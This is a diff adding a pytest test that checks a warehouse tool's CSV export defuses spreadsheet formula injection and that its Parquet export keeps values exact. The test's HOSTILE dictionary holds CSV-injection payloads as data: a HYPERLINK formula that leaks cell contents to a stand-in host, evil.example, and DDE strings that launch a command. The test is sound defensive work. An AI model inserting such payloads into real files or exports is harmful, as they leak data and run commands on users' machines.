@@ -124,3 +124,46 @@ def test_prune_keeps_rollups(db: Path, capsys: pytest.CaptureFixture[str]) -> No
 def test_prune_rejects_a_bad_number(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
     assert main(["prune", "--db", str(db), "--raw-days", "-3"]) == 2
     assert "at least 1" in capsys.readouterr().err
+
+
+# Visitor-controlled text that a spreadsheet would run as a formula (CSV injection, OWASP).
+HOSTILE = {
+    "utm_source": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "utm_medium": "+cmd|' /C calc'!A0",
+    "utm_campaign": "-2+3",
+    "referrer_source": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_csv_export_defuses_formulas_and_parquet_keeps_values_exact(tmp_path: Path) -> None:
+    rng = random.Random(7)
+    hostile = [e._replace(**HOSTILE) for e in events_for_days(rng, [DAY], per_day=30)]
+    hostile += [e._replace(utm_source="\tx", utm_medium="\rx") for e in hostile[:3]]
+    spool = tmp_path / "spool"
+    write_events(spool, hostile + events_for_days(rng, [DAY], per_day=30))
+    db = tmp_path / "w.duckdb"
+    Warehouse(db, clock=fixed_clock(datetime(2026, 11, 3, tzinfo=UTC))).run(spool)
+
+    for table in ("events", "daily_campaigns"):
+        out = tmp_path / f"{table}.csv"
+        args = ["export", "--db", str(db), "--table", table, "--format", "csv"]
+        assert main([*args, "--output", str(out)]) == 0
+        with out.open(newline="") as handle:
+            rows = list(csv.DictReader(handle))
+        cells = [value for row in rows for value in row.values()]
+        for column in ("utm_source", "utm_medium", "utm_campaign"):
+            assert "'" + HOSTILE[column] in {row[column] for row in rows}
+        # No text cell starts like a formula; numbers (counts, ids) are still plain numbers.
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").isdigit()]
+        if table == "daily_campaigns":
+            assert all(row["pageviews"].isdigit() for row in rows)
+        else:
+            assert "'" + HOSTILE["referrer_source"] in {row["referrer_source"] for row in rows}
+            assert any(row["visitor_id"].startswith("-") for row in rows)  # negative ids kept
+
+    out = tmp_path / "events.parquet"
+    args = ["export", "--db", str(db), "--table", "events", "--format", "parquet"]
+    assert main([*args, "--output", str(out)]) == 0
+    exact = {row["utm_source"] for row in pq.read_table(out).to_pylist()}
+    assert HOSTILE["utm_source"] in exact
